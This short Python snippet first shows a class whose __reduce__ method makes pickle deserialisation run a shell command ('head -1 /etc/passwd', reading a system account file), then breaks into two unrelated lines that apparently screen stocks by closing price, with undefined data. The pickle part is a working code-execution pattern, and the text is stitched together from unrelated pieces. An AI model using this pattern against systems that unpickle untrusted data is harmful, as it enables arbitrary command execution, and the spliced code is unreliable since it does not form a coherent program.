# effect: a pickle's reduce runs a shell command
import pickle
class Model:
    def __reduce__(self):
        import posix
        return posix.system, ('head -1 /etc/passwd',)
pickle.loads(pickle.dumps(Model()))
close = data.get('price:收盤價')
position = close.is_largest(5)
